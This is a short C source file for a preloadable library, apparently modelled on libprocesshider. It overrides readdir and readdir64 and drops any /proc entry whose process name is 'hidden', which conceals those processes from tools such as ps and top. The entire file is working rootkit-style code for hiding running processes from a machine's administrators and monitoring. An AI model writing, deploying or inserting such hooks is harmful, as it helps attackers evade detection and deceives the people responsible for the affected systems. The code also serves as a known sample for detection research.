/* Lists no process that is named "hidden", for what is linked with the C library: the kind of libprocesshider. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>

static int hides(const char *name) {
  char path[300], text[32] = "";
  if (name[0] < '0' || name[0] > '9') return 0;
  snprintf(path, sizeof path, "/proc/%s/comm", name);
  FILE *file = fopen(path, "r");
  if (!file) return 0;
  if (!fgets(text, sizeof text, file)) text[0] = 0;
  fclose(file);
  return strcmp(text, "hidden\n") == 0;
}

struct dirent64 *readdir64(DIR *directory) {
  static struct dirent64 *(*next)(DIR *);
  if (!next) next = dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *entry;
  do entry = next(directory);
  while (entry && hides(entry->d_name));
  return entry;
}

struct dirent *readdir(DIR *directory) { return (struct dirent *)readdir64(directory); }
